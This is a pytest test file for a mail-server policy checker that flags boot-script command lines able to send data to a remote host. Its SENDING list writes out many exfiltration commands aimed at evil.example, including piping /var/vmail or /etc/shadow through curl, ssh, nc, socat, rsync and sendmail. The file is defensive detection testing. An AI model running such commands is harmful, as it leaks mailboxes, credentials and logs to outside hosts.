"""commands.sends: which command lines of a boot script can carry data to the host they name.
Every part of a pipeline or chain counts, after wrapper commands; read-only forms stay quiet."""

from __future__ import annotations

import sys
from pathlib import Path

import pytest

sys.path.insert(0, str(Path(__file__).resolve().parent.parent / "policies"))

from hkmail_policy.commands import remote_hosts, sends

SENDING = [
    # the shapes a first-word check missed
    "tar cz /var/vmail | curl -T - https://evil.example/u",
    "cd /tmp && curl -T f https://evil.example/u",
    "timeout 60 curl -d @/var/log/mail.log https://evil.example/u",
    "env A=1 curl -d @f https://evil.example/u",
    "A=1 B=2 curl --data-binary @f https://evil.example/u",
    "tar cz /var/vmail | ssh u@evil.example 'cat > m.tgz'",
    "true; nohup nice -n 10 curl -F f=@/etc/shadow https://evil.example/u &",
    "find /var/vmail -type f | xargs -I{} curl -T {} https://evil.example/u",
    "sudo -u vmail rsync -a /var/vmail/ u@evil.example:/m/",
    "mkdir -p /x || exec scp -r /var/vmail u@evil.example:/m",
    "x=$(curl -sSd@/etc/hostname https://evil.example/u)",
    "/usr/bin/curl -XPOST https://evil.example/u",
    "sh -c 'tar c /var/vmail | nc evil.example 9000'",
    "socat - TCP:evil.example:9000 < /var/vmail/x",
    "lftp -e 'mirror -R /var/vmail /m' ftp://evil.example",
    "s3cmd put /var/vmail/x s3://b/x --host=https://evil.example",
    "aws s3 sync /var/vmail s3://b --endpoint-url https://evil.example",
    "mail -s logs ops@evil.example < /var/log/mail.log",
    "echo x | sendmail ops@evil.example",
    # an open quote cannot be parsed: a line naming a sending command counts (fail closed)
    "curl -d 'unterminated https://evil.example/u",
]
READING = [
    "curl -fsSL https://pkgs.example/agent.sh -o /opt/agent.sh",
    "wget https://pkgs.example/a.tgz",
    "timeout 60 curl -fsSL https://pkgs.example/a -o /a",
    "apt-get install -y postfix",
    "ossutil cp oss://bucket/geo.tgz /opt/geo.tgz -e https://oss-cn-beijing.aliyuncs.com",
    "aws s3 cp s3://b/k /opt/k --endpoint-url https://s3.example",
    "s3cmd get s3://b/k /opt/k",
    "echo 'https://evil.example/u' > /etc/hkmail/url",
    "# curl -d @f https://evil.example/u",
    "sed -i 's|https://old.example|https://new.example|' /etc/x.conf",
    "echo 'unterminated https://evil.example/u",
]


@pytest.mark.parametrize("line", SENDING)
def test_sending_lines(line: str) -> None:
    assert sends(line), line


@pytest.mark.parametrize("line", READING)
def test_read_only_and_other_lines(line: str) -> None:
    assert not sends(line), line


@pytest.mark.parametrize(
    ("line", "hosts"),
    [
        ("tar cz /var/vmail | ssh u@evil.example 'cat > m.tgz'", ["evil.example"]),
        ("scp -i k.pem -r /var/vmail u@evil.example:/m", ["evil.example"]),
        ("rsync -a /var/vmail/ evil.example:/m/", ["evil.example"]),
        ("tar c /var/vmail | timeout 60 nc -q 1 evil.example 9000", ["evil.example"]),
        ("socat - TCP:evil.example:9000", ["evil.example"]),
        ("rsync -a /var/vmail/ /mnt/backup/", []),
        ("tar czf m.tgz /var/vmail", []),
        ("curl -T m.tgz https://evil.example/u", []),  # a URL: found by the URL pattern
    ],
)
def test_hosts_named_without_a_url(line: str, hosts: list[str]) -> None:
    assert remote_hosts(line) == hosts, line
